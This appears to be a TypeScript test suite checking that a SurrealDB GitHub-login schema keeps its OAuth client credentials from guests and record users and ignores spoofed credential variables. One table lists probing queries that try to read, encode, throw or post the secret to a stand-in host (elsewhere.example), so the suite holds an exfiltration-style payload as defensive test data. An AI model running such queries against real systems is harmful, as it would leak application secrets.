import { ask, type Case, login, suite, table } from "../../fixtures/case/case.ts";
import type { ContractRow } from "../../fixtures/environment/names/contract-row.ts";
import {
  aRotatedSecret,
  theClientId,
  theClientSecret,
  theSecret,
  theCode,
  theCredentials,
  theCredentialsParam,
  theSecretParam,
  variablesLikeParams,
} from "../../fixtures/environment/names/placeholders.ts";
import { ada, adaFromGitHub, adasLink, bob, exchange, failsWith, isNew, stopsAt } from "../login/login-expectations.ts";

const elsewhere = ["param", "params", "function"];
const everyone = { users: [ada, bob], links: [adasLink] };

/** Ways to look at what a definition holds. That the secret is in no answer is looked at in every case. */
const looks = {
  whole: `RETURN ${theCredentials}`,
  secret: `RETURN ${theSecret}`,
  "as-text": `RETURN <string> ${theCredentials}`,
  "in-base64": `RETURN encoding::base64::encode(<bytes> <string> ${theCredentials})`,
  "in-a-query": `SELECT ${theCredentials} AS it FROM 1`,
  "in-a-block": `RETURN { LET $it = ${theCredentials}; RETURN $it; }`,
  "in-a-closure": `RETURN [1].map(|$n| ${theCredentials})`,
  thrown: `THROW <string> ${theCredentials}`,
  "sent-away": `RETURN http::post('http://elsewhere.example/', { all: ${theCredentials} })`,
  "with-variables-of-its-own": `${variablesLikeParams} RETURN ${theCredentials}`,
};
const people = {
  guest: { as: "guest", who: "a guest", needs: "guests" },
  user: { as: "users:ada", who: "a record user", needs: undefined },
  gone: { as: "users:gone", who: "a record user whose row is gone", needs: undefined },
} as const;

const anothersApp = { client_id: "Ov23liOfNobodyAtAll0", client_secret: "a secret of somebody else's app" };
/** The login goes on with the app that the schema has. */
const withOurApp = {
  ...isNew(adaFromGitHub, "1815"),
  requests: [{ params: { client_id: theClientId, client_secret: theClientSecret, code: theCode } }],
};

export const credentials = suite("credentials", [
  ...Object.entries(people).flatMap(([person, { as, who, needs }]) =>
    table(looks, (sql, way): Case => ({
      id: `CREDS-01-${way}-${person}`,
      level: "MUST",
      title: `${who} doesn't read the app's credentials (${way.replaceAll("-", " ")})`,
      ...(needs && { needs }),
      under: { credentials: elsewhere },
      given: everyone,
      when: ask(as, sql),
      then: { sight: { hides: [theClientId] } },
    })),
  ),
  ...table<{ kind: string; extra: ContractRow }>(
    {
      param: { kind: "param", extra: { [theCredentialsParam]: anothersApp } },
      "param-null": { kind: "param", extra: { [theCredentialsParam]: null } },
      params: {
        kind: "params",
        extra: { [theCredentialsParam]: anothersApp.client_id, [theSecretParam]: anothersApp.client_secret },
      },
      "params-secret": { kind: "params", extra: { [theSecretParam]: anothersApp.client_secret } },
    },
    ({ kind, extra }, name) => ({
      id: `CREDS-02-${name}`,
      level: "MUST",
      title: `a client that sends variables named like the credentials logs in by the schema's own app (${name})`,
      source: "https://surrealdb.com/docs/surrealql/statements/define/access/record",
      under: { credentials: [kind] },
      when: login({ extra }),
      then: withOurApp,
    }),
  ),
  {
    id: "CREDS-03",
    level: "MUST",
    title: "the app's own credentials are sent, and to nobody else",
    under: { credentials: elsewhere },
    when: login(),
    then: withOurApp,
  },
  {
    id: "CREDS-04",
    level: "MUST",
    title: "credentials that are redefined count from the next login on",
    under: { credentials: elsewhere },
    when: [login(), ask("admin", aRotatedSecret), login()],
    then: [isNew(adaFromGitHub, "1815"), { sight: { hides: [] } }, stopsAt("missing_access_token", [exchange])],
  },
  {
    id: "CREDS-05",
    level: "MUST",
    title: "a record user who calls the function gets neither the credentials nor anybody's account",
    under: { credentials: elsewhere },
    given: everyone,
    when: login({ channel: "call", as: "users:bob" }),
    then: failsWith(["missing_github_config", "error"], []),
  },
  ...table<readonly ContractRow[]>(
    {
      none: [],
      "no-id": [{ provider: "github", client_secret: theClientSecret }],
      "no-secret": [{ provider: "github", client_id: theClientId }],
      "null-id": [{ provider: "github", client_id: null, client_secret: theClientSecret }],
      "null-secret": [{ provider: "github", client_id: theClientId, client_secret: null }],
      "empty-id": [{ provider: "github", client_id: "", client_secret: theClientSecret }],
      "empty-secret": [{ provider: "github", client_id: theClientId, client_secret: "" }],
    },
    (providers, name) => ({
      id: `CREDS-06-${name}`,
      level: "MUST",
      title: `credentials that lack a value (${name}) stop the login before any request, whoever is linked`,
      under: { credentials: elsewhere },
      given: { ...everyone, providers },
      when: login(),
      then: {
        stage: ["missing_github_config", "invalid_github_config"],
        fails: ["masked", "error"],
        calls: [],
      },
    }),
  ),
]);
